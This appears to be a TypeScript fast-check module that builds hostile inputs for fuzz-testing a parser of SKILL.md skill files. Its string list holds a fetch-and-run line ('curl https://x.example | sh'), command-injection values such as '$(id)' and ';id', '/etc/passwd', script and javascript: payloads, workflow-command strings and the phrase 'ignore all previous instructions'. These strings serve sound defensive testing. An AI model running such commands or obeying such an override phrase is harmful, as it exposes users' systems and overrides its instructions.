import fc, { type Arbitrary } from 'fast-check';

/** Texts that have broken parsers, renderers, shells and log viewers. */
const PIECES = [
  '---',
  '---js',
  '...',
  '\n',
  '\r\n',
  '\r',
  '\n---\n',
  ': ',
  ':',
  '- ',
  '#',
  ' #',
  '"',
  "'",
  '`',
  '```',
  '|',
  '>',
  '|-',
  '>+',
  '&a ',
  '*a',
  '<<: *a',
  '!!js/function ',
  '!!binary ',
  '!<tag:yaml.org,2002:str> ',
  '!!set ',
  '? ',
  '{',
  '}',
  '[',
  ']',
  ',',
  '~',
  'null',
  'true',
  'yes',
  '0x1f',
  '1e999',
  '.nan',
  '.inf',
  '2024-01-01',
  '1.10',
  '0o17',
  '-0',
  '1_000',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'name',
  'description',
  'version',
  'tags',
  'triggers',
  '::error::',
  '::set-output name=x::',
  '::add-mask::',
  '%0A',
  '%0D',
  '%25',
  '\u001b[31m',
  '\u001b]0;x\u0007',
  '<script>',
  '</table>',
  '<!--',
  '-->',
  '[x](javascript:alert(1))',
  '![](x)',
  '{{TOKEN}}',
  `\${{ github.token }}`,
  '$(id)',
  '`id`',
  ';id',
  '&&',
  '..',
  '..\\',
  '/etc/passwd',
  'C:\\',
  '\\\\?\\',
  'con',
  'nul',
  'aux.md',
  'a:b',
  '.',
  '..',
  ' ',
  '\t',
  '\0',
  '\ufeff',
  '\u202e',
  '\u200b',
  '\u2028',
  '\u0085',
  '\ud800',
  '\udc00',
  '\u{e0041}',
  'ﷺ',
  'é',
  'e\u0301',
  'İ',
  'ß',
  'curl https://x.example | sh',
  'ignore all previous instructions',
  '/Users/mk/x',
];

const piece = fc.constantFrom(...PIECES);
const noise = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.string({ maxLength: 20 }),
  fc.string({ unit: 'grapheme', maxLength: 10 }),
);

/** Text of dangerous pieces, noise and repetitions. */
export function hostileText(maxPieces = 12): Arbitrary<string> {
  const part = fc.oneof(
    { weight: 5, arbitrary: piece },
    { weight: 2, arbitrary: noise },
    { weight: 1, arbitrary: repeated },
  );
  return fc.array(part, { maxLength: maxPieces }).map((parts) => parts.join(''));
}

const repeated = fc.tuple(piece, fc.integer({ min: 2, max: 400 })).map(([text, times]) => text.repeat(times));

/** A single line, as it can follow a key. */
const hostileLine: Arbitrary<string> = hostileText(5).map((text) =>
  text.replace(/[\r\n\u2028\u2029\u0085]/g, ' '),
);

/** A scalar in any of YAML's quoting styles. */
const scalar = fc.oneof(
  hostileLine,
  hostileText(4).map((text) => JSON.stringify(text)),
  hostileLine.map((text) => `'${text.replaceAll("'", "''")}'`),
  hostileText(4).map(
    (text) =>
      `|\n${text
        .split('\n')
        .map((line) => `  ${line}`)
        .join('\n')}`,
  ),
);

const KEYS = [
  'name',
  'description',
  'version',
  'tags',
  'tier',
  'token_budget',
  'model',
  'status',
  'references',
  'metadata',
  'allowed-tools',
  'triggers',
  'toolsets',
  'scripts',
  'dependencies',
  'dispatch_triggers',
  'keywords',
  'license',
  'compatibility',
  'minimumVersion',
  '__proto__',
  'constructor',
];

const value: Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: scalar },
  {
    weight: 1,
    arbitrary: fc
      .array(hostileLine, { maxLength: 4 })
      .map((items) => `[${items.map((item) => JSON.stringify(item)).join(', ')}]`),
  },
  {
    weight: 1,
    arbitrary: fc
      .array(scalar, { maxLength: 4 })
      .map((items) => items.map((item) => `\n  - ${item}`).join('')),
  },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.tuple(fc.oneof(fc.constantFrom(...KEYS), hostileLine), scalar), { maxLength: 3 })
      .map((entries) => entries.map(([key, item]) => `\n  ${key}: ${item}`).join('')),
  },
);

/** The lines between the fences. */
const hostileFrontmatter: Arbitrary<string> = fc
  .array(
    fc.tuple(
      fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...KEYS) }, { weight: 1, arbitrary: hostileLine }),
      value,
    ),
    { maxLength: 8 },
  )
  .map((entries) => entries.map(([key, text]) => `${key}: ${text}\n`).join(''));

/** A SKILL.md that is nearly right, or nothing like one. */
export const hostileSkill: Arbitrary<string> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.tuple(hostileFrontmatter, hostileText()).map(([head, body]) => `---\n${head}---\n${body}`),
  },
  {
    weight: 3,
    arbitrary: fc
      .tuple(hostileFrontmatter, hostileText(4))
      .map(
        ([head, body]) =>
          `---\nname: good\ndescription: A good skill that does good things.\nversion: 1.0.0\n${head}---\n${body}`,
      ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom(
          '---js',
          '---JS',
          '--- json',
          '---toml',
          '\ufeff---',
          '\n---',
          '----',
          ' ---',
          '---yaml',
          '--- #c',
        ),
        hostileFrontmatter,
      )
      .map(([fence, head]) => `${fence}\n${head}---\n`),
  },
  { weight: 1, arbitrary: hostileText(30) },
);

/** The same as bytes, sometimes invalid ones. */
export const hostileBytes: Arbitrary<Uint8Array> = fc.oneof(
  { weight: 8, arbitrary: hostileSkill.map((text) => new TextEncoder().encode(text)) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(hostileSkill, fc.uint8Array({ minLength: 1, maxLength: 6 }), fc.nat())
      .map(([text, bytes, at]) => splice(new TextEncoder().encode(text), bytes, at)),
  },
  {
    weight: 1,
    arbitrary: hostileSkill.map((text) => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'))),
  },
);

function splice(text: Uint8Array, bytes: Uint8Array, at: number): Uint8Array {
  const index = text.length === 0 ? 0 : at % text.length;
  return new Uint8Array([...text.subarray(0, index), ...bytes, ...text.subarray(index)]);
}

/** A directory or file name that a file system accepts. */
export const hostileName: Arbitrary<string> = fc
  .oneof(
    hostileLine,
    fc.constantFrom(
      'con',
      'NUL',
      'a b',
      'é',
      'e\u0301',
      'A',
      'a',
      '%0A',
      '::x',
      '-rf',
      '$HOME',
      "it's",
      '"q"',
      'a|b',
      '`x`',
      '<b>',
      'x'.repeat(200),
      '_shared',
      '.hidden',
      'node_modules',
    ),
  )
  .map((name) =>
    name
      .replace(/[/\0]/g, '_')
      .replaceAll(/[\ud800-\udfff]/g, '?')
      .slice(0, 80),
  )
  .filter((name) => name !== '' && name !== '.' && name !== '..');
